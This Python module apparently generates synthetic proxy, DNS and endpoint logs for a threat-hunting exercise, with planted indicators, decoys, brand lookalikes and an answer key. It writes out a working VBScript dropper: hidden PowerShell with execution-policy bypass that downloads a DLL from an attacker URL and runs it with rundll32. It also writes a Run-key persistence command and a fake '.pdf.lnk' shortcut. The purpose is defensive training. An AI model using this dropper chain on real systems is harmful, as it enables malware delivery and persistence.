"""Synthetic exchange telemetry with a campaign's indicators planted among ordinary traffic, and the truth.

Proxy and DNS logs (JSON lines, the proxy log gzip-compressed), endpoint process-creation events (image, parent,
command line, user, hash) and a folder of files from the engineer's workstation. Ordinary traffic draws hosts
from a Zipf-like popularity list (the exchange's own sites among them); the planted lines use the indicators as an
attacker's traffic would show them (a subdomain, upper case and a trailing dot, a URL with a query, an upper-case
hash), and decoys put look-alikes beside them (`not<domain>`, `<domain>.cdn-x.net`, the domain inside a search
query, the IP inside a longer number) that an exact hunt must not report. Planted too, whatever the indicators:
lookalikes of the exchange's brand in DNS and proxy logs (one a mixed-script IDN, written as punycode), the
incident report's process chain (shortcut -> VBScript -> PowerShell download -> rundll32, and a Run key), and
its dropper script and shortcut among the workstation's files, next to benign scripts and shortcuts.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import zipfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from heistwatch.hunt.mail_corpus import EXCHANGE, shortcut

DEFAULT_URL = "https://cloud-docs-share.online/jd/view.php?id=8812"
USER = "HOKUTO\\k.sato"
HOME = "C:\\Users\\k.sato"
SYSTEM = "C:\\Windows\\System32"
BROWSER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1",
)
POWERSHELL_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.5247"
# Lookalikes of the exchange's brand an attacker registers: a one-letter typo, a combosquat, and the brand with a
# Cyrillic small o (U+043E) for the first Latin "o", which DNS and proxy logs show as punycode.
LOOKALIKES = (
    "hokuto-exchanqe.com",
    "hokuto-exchange-login.com",
    "h\u043ekuto-exchange.com".encode("idna").decode("ascii"),
)
ORDINARY_HOSTS = (
    "www.google.com",
    "login.microsoftonline.com",
    "api.binance.com",
    "slack.com",
    "github.com",
    "zoom.us",
    "www.linkedin.com",
    "cdn.jsdelivr.net",
    "api.coingecko.com",
    "outlook.office365.com",
    "s3.amazonaws.com",
    "telegram.org",
    "www.wikipedia.org",
    "update.googleapis.com",
    "docs.google.com",
    "api.kraken.com",
    f"www.{EXCHANGE}",
    f"api.{EXCHANGE}",
    f"wiki.{EXCHANGE}",
)
# Ordinary process creations: (parent image, image, command line); paths are under SYSTEM unless absolute.
ORDINARY_PROCESSES = (
    ("C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"{image}"'),
    ("C:\\Windows\\explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"{image}"'),
    ("C:\\Windows\\explorer.exe", "notepad.exe", '"{image}" {home}\\Documents\\notes.txt'),
    ("services.exe", "svchost.exe", "{image} -k netsvcs -p -s Schedule"),
    ("svchost.exe", "rundll32.exe", "{image} {system}\\shell32.dll,Control_RunDLL"),
    ("C:\\Windows\\explorer.exe", "WindowsPowerShell\\v1.0\\powershell.exe", "{image} -NoProfile Get-ChildItem {home}"),
    ("userinit.exe", "wscript.exe", "{image} //B \\\\hokuto-dc\\NETLOGON\\map_drives.vbs"),
    ("cmd.exe", "reg.exe", "{image} query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
)


@dataclass
class Planted:
    """What was planted: indicator hits per value, decoys, lookalikes, the process chain and the dropper files.

    `planted_lines` gives, per log file name, the line numbers of every planted record (hits, decoys, lookalikes,
    the chain), so a hunt's matches elsewhere are matches on ordinary traffic.
    """

    hits: Counter[str] = field(default_factory=Counter)
    decoys: int = 0
    brand: str = EXCHANGE
    lookalikes: tuple[str, ...] = ()
    process_log: Path | None = None
    process_chain: tuple[int, ...] = ()
    planted_lines: dict[str, frozenset[int]] = field(default_factory=dict)
    logs: tuple[Path, ...] = ()
    files_folder: Path | None = None
    dropper_files: tuple[str, ...] = ()


def generate_telemetry(
    folder: Path, planted: dict[str, list[str]], *, lines: int = 20_000, seed: int = 0
) -> tuple[list[Path], Planted]:
    """Write proxy, DNS and endpoint logs into `folder`; `planted` maps indicator kind -> values to plant."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    truth = Planted()
    proxy, dns, endpoint = [], [], []
    for n in range(lines):
        ts = f"2026-03-{10 + n * 10 // lines:02d}T{n % 24:02d}:{n % 60:02d}:00Z"
        host = ORDINARY_HOSTS[min(int(rng.paretovariate(1.2)) - 1, len(ORDINARY_HOSTS) - 1)]
        proxy.append(
            {
                "ts": ts,
                "src_ip": f"10.20.{rng.randrange(256)}.{rng.randrange(1, 255)}",
                "host": host,
                "url": f"https://{host}/{rng.randrange(10**6)}",
                "method": "POST" if rng.random() < 0.2 else "GET",
                "user_agent": rng.choice(BROWSER_AGENTS),
                "dst_ip": _public_ip(rng),
                "bytes": rng.randrange(10**6),
            }
        )
        dns.append({"ts": ts, "query": host, "answer": _public_ip(rng)})
        endpoint.append({"ts": ts, **_ordinary_process(rng), "sha256": f"{rng.getrandbits(256):064x}"})
    marked: list[dict[str, Any]] = []
    _plant(rng, planted, proxy, dns, endpoint, truth, marked)
    truth.lookalikes = _plant_lookalikes(rng, proxy, dns, marked)
    chain = _plant_chain(rng, (planted.get("url") or [DEFAULT_URL])[0], endpoint, marked)
    logs: dict[str, list[dict[str, Any]]] = {"proxy.jsonl.gz": proxy, "dns.jsonl": dns, "endpoint.jsonl": endpoint}
    marks = {id(record) for record in marked}
    truth.planted_lines = {
        name: frozenset(n for n, record in enumerate(log, 1) if id(record) in marks) for name, log in logs.items()
    }
    chain_ids = {id(record) for record in chain}
    truth.process_chain = tuple(n for n, record in enumerate(endpoint, 1) if id(record) in chain_ids)
    files = [_write(folder / name, log, compress=name.endswith(".gz")) for name, log in logs.items()]
    truth.process_log, truth.logs = files[2], tuple(files)
    truth.files_folder = folder / "endpoint-files"
    truth.dropper_files = write_endpoint_files(rng, truth.files_folder, (planted.get("url") or [DEFAULT_URL])[0])
    return files, truth


def _ordinary_process(rng: random.Random) -> dict[str, str]:
    parent, image, command = rng.choice(ORDINARY_PROCESSES)
    parent, image = (p if ":" in p else f"{SYSTEM}\\{p}" for p in (parent, image))
    return {
        "process": image.rsplit("\\", 1)[-1],
        "image": image,
        "parent_image": parent,
        "command_line": command.format(image=image, home=HOME, system=SYSTEM),
        "user": "NT AUTHORITY\\SYSTEM" if parent.endswith("services.exe") else USER,
    }


def _plant_lookalikes(
    rng: random.Random, proxy: list[dict[str, Any]], dns: list[dict[str, Any]], marked: list[dict[str, Any]]
) -> tuple[str, ...]:
    """Each lookalike queried in DNS; the combosquat also fetched through the proxy, as a phishing page would be."""
    for domain in LOOKALIKES:
        _put(rng, dns, {"query": domain, "answer": _public_ip(rng)}, marked)
    login = LOOKALIKES[1]
    page = {"host": login, "url": f"https://{login}/signin?next=/wallet", "method": "GET"}
    _put(rng, proxy, page | {"user_agent": BROWSER_AGENTS[0], "dst_ip": _public_ip(rng)}, marked)
    return LOOKALIKES


def _plant_chain(
    rng: random.Random, url: str, endpoint: list[dict[str, Any]], marked: list[dict[str, Any]]
) -> list[dict[str, Any]]:
    """The incident report's chain, one event a minute: the shortcut's script, its download, the DLL, a Run key."""
    script = f"{HOME}\\AppData\\Roaming\\Microsoft\\update.vbs"
    dll = f"{HOME}\\AppData\\Local\\Temp\\msupd.dll"
    wscript, powershell = f"{SYSTEM}\\wscript.exe", f"{SYSTEM}\\WindowsPowerShell\\v1.0\\powershell.exe"
    steps = [
        ("C:\\Windows\\explorer.exe", wscript, f'"{wscript}" //B "{script}"'),
        (wscript, powershell, f"{powershell} -w hidden -ep bypass -c \"iwr -UseBasicParsing '{url}' -OutFile {dll}\""),
        (powershell, f"{SYSTEM}\\rundll32.exe", f"{SYSTEM}\\rundll32.exe {dll},DllRegisterServer"),
        (
            wscript,
            f"{SYSTEM}\\reg.exe",
            f"{SYSTEM}\\reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v WinUpdate"
            f' /t REG_SZ /d "wscript.exe //B {script}" /f',
        ),
    ]
    chain = []
    at = rng.randrange(len(endpoint) + 1)
    for minute, (parent, image, command) in enumerate(steps):
        record = {
            "ts": f"2026-03-16T01:{2 + minute:02d}:00Z",
            "process": image.rsplit("\\", 1)[-1],
            "image": image,
            "parent_image": parent,
            "command_line": command,
            "user": USER,
            "sha256": f"{rng.getrandbits(256):064x}",
        }
        endpoint.insert(at + minute, record)
        chain.append(record)
    marked.extend(chain)
    return chain


def write_endpoint_files(rng: random.Random, folder: Path, url: str) -> tuple[str, ...]:
    """The workstation's files: documents, benign scripts and shortcuts, and the dropper script and shortcut.

    Returns the dropper files' locations relative to `folder` (`archive!member` inside an archive).
    """
    home = folder / "Users" / "k.sato"
    files: dict[str, bytes] = {
        "Documents/notes.txt": b"Ops handover\n- rotate the hot-wallet signer keys on Friday\n",
        "Documents/withdrawals.csv": b"".join(f"{n},{rng.randrange(10**8)},BTC\n".encode() for n in range(200)),
        "Documents/tools/map_drives.vbs": b'Set net = CreateObject("WScript.Network")\r\n'
        b'net.MapNetworkDrive "S:", "\\\\hokuto-dc\\share"\r\n',
        "Documents/tools/cleanup.vbs": b'Set sh = CreateObject("WScript.Shell")\r\n'
        b'sh.Run "powershell.exe -NoProfile -Command Remove-Item $env:TEMP\\*.log", 0, True\r\n',
        "Desktop/Notepad.lnk": shortcut(f"{SYSTEM}\\notepad.exe", ""),
        "Desktop/Logon script.lnk": shortcut(f"{SYSTEM}\\wscript.exe", "//B \\\\hokuto-dc\\NETLOGON\\map_drives.vbs"),
        "AppData/Local/cache.bin": rng.randbytes(64 << 10),
        "AppData/Roaming/Microsoft/update.vbs": _dropper_script(url),
        "Downloads/Blockwave_JD.zip": _zip(
            {
                "Job_Description_Blockwave.pdf.lnk": shortcut(
                    f"{SYSTEM}\\wscript.exe", "//B ..\\..\\AppData\\Roaming\\Microsoft\\update.vbs"
                )
            }
        ),
    }
    for name, data in files.items():
        path = home / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    prefix = "Users/k.sato"
    return (
        f"{prefix}/AppData/Roaming/Microsoft/update.vbs",
        f"{prefix}/Downloads/Blockwave_JD.zip!Job_Description_Blockwave.pdf.lnk",
    )


def _dropper_script(url: str) -> bytes:
    """The VBScript the report describes: a hidden PowerShell download of the DLL, run with rundll32, and a Run key."""
    return (
        'Set sh = CreateObject("WScript.Shell")\r\n'
        f'sh.Run "powershell.exe -w hidden -ep bypass -c ""iwr -UseBasicParsing \'{url}\' -OutFile'
        ' $env:TEMP\\msupd.dll; rundll32.exe $env:TEMP\\msupd.dll,DllRegisterServer""", 0, False\r\n'
        'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\WinUpdate",'
        ' "wscript.exe //B ""%APPDATA%\\Microsoft\\update.vbs""", "REG_SZ"\r\n'
    ).encode()


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 3, 16, 10, 2, 0)), data)
    return buffer.getvalue()


def _public_ip(rng: random.Random) -> str:
    return f"{rng.randrange(11, 200)}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _plant(
    rng: random.Random,
    planted: dict[str, list[str]],
    proxy: list[dict[str, Any]],
    dns: list[dict[str, Any]],
    endpoint: list[dict[str, Any]],
    truth: Planted,
    marked: list[dict[str, Any]],
) -> None:
    """Insert true hits and decoys at random positions of the three logs."""

    def put(log: list[dict[str, Any]], record: dict[str, Any]) -> None:
        _put(rng, log, record, marked)

    for domain in planted.get("domain", []):
        put(dns, {"query": f"cdn.{domain}", "answer": _public_ip(rng)})
        put(dns, {"query": f"{domain.upper()}.", "answer": _public_ip(rng)})
        truth.hits[domain] += 2
        put(dns, {"query": f"not{domain}", "answer": _public_ip(rng)})
        put(dns, {"query": f"{domain}.cdn-x.net", "answer": _public_ip(rng)})
        put(proxy, {"host": "www.google.com", "url": f"https://www.google.com/search?q={domain}"})
        truth.decoys += 3
    for url in planted.get("url", []):  # the PowerShell download; a query on a bare URL still matches
        put(proxy, {"host": "", "url": url if "?" in url else f"{url}?utm=1", "user_agent": POWERSHELL_AGENT})
        truth.hits[url] += 1
        host = urlsplit(url).hostname or ""
        truth.hits.update(d for d in planted.get("domain", []) if host == d or host.endswith(f".{d}"))
    for ip in planted.get("ipv4", []):
        put(proxy, {"host": "", "dst_ip": ip, "url": ""})
        truth.hits[ip] += 1
        put(proxy, {"host": "", "dst_ip": f"1{ip}5", "url": ""})
        truth.decoys += 1
    for digest in planted.get("sha256", []):
        put(endpoint, {"process": "wscript.exe", "sha256": digest.upper()})
        truth.hits[digest] += 1


def _put(rng: random.Random, log: list[dict[str, Any]], record: dict[str, Any], marked: list[dict[str, Any]]) -> None:
    """Insert a planted record at a random position, remembering it."""
    full = {"ts": "2026-03-16T01:03:00Z", **record}
    log.insert(rng.randrange(len(log) + 1), full)
    marked.append(full)


def _write(path: Path, records: list[dict[str, Any]], *, compress: bool = False) -> Path:
    text = "".join(json.dumps(r) + "\n" for r in records).encode()
    path.write_bytes(gzip.compress(text, mtime=0) if compress else text)
    return path
